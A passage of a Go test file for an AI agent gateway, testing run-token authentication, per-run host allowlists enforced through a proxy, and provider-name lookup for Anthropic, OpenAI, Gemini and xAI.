		t.Errorf("keyless HEAD: %d, want 401", code)
	}
	if strings.Contains(logs.String(), "level=WARN") {
		t.Errorf("a keyless HEAD warned:\n%s", logs)
	}
	if code, _, _ := do(t, c, http.MethodPost, "http://gateway/anthropic/v1/messages", `{}`, nil); code != http.StatusUnauthorized {
		t.Errorf("keyless POST: %d, want 401", code)
	}
	if !strings.Contains(logs.String(), `level=WARN msg="gateway: request without a valid run token" run=run-a method=POST`) {
		t.Errorf("a keyless POST did not warn:\n%s", logs)
	}
}

// TestRunAllowlist: the hosts given to Open are reachable by that run alone
// (as an HTTP proxy, with its token), on top of Options.Allow; a bad host
// fails Open without taking the run id.
func TestRunAllowlist(t *testing.T) {
	provider, _ := recorder(t, 200, `{}`, nil)
	registry, registryGot := recorder(t, 200, `registry`, nil)
	host := mustURL(registry.URL).Host
	g, _ := newGateway(t, Options{Providers: []Provider{Anthropic(provider.URL, realKey)}})
	if _, err := g.Open("run-bad", "registry.example/path"); err == nil || !strings.Contains(err.Error(), "registry.example/path") {
		t.Fatalf("Open with a bad host: %v", err)
	}
	withAllow, err := g.Open("run-bad", host, "*.npmjs.org")
	if err != nil {
		t.Fatalf("the run id was kept by a failed Open: %v", err)
	}
	t.Cleanup(func() { withAllow.Close() })
	without := open(t, g, "run-plain")
	tests := []struct {
		name string
		s    *Session
		want int
	}{
		{"the run that allows it", withAllow, http.StatusOK},
		{"another run", without, http.StatusForbidden},
	}
	for _, tc := range tests {
		t.Run(tc.name, func(t *testing.T) {
			c := socketClient(tc.s.SocketPath())
			c.Transport.(*http.Transport).Proxy = http.ProxyURL(&url.URL{Scheme: "http", User: url.UserPassword("agent", tc.s.Token()), Host: "gateway"})
			code, _, body := do(t, c, http.MethodGet, registry.URL+"/pkg", "", nil)
			if code != tc.want {
				t.Fatalf("status %d %s, want %d", code, body, tc.want)
			}
			if refused := len(tc.s.Refused()); (tc.want == http.StatusForbidden) != (refused == 1) {
				t.Errorf("%d refusals recorded", refused)
			}
			if tc.want == http.StatusForbidden && !strings.Contains(body, "not an allowed destination") {
				t.Errorf("body %q", body)
			}
		})
	}
	if n := len(registryGot()); n != 1 {
		t.Errorf("the allowed host got %d requests, want 1", n)
	}
	if resp := connect(t, without, "registry.npmjs.org:443", without.Token()); resp.StatusCode != http.StatusForbidden {
		t.Errorf("CONNECT to another run's allowed host: status %d", resp.StatusCode)
	}
}

// TestProviderNamed: the names the agent adapters declare are the
// constructors' providers.
func TestProviderNamed(t *testing.T) {
	for _, tc := range []struct {
		name string
		want Provider
	}{
		{"anthropic", Anthropic("http://m", "k")},
		{"openai", OpenAI("http://m", "k")},
		{"gemini", Gemini("http://m", "k")},
		{"xai", XAI("http://m", "k")},
	} {
		if got, ok := ProviderNamed(tc.name, "http://m", "k"); !ok || fmt.Sprint(got) != fmt.Sprint(tc.want) {
			t.Errorf("ProviderNamed(%q) = %+v, %v", tc.name, got, ok)
		}
	}
	if _, ok := ProviderNamed("azure", "http://m", "k"); ok {
		t.Error("an unknown name gave a provider")
	}
}
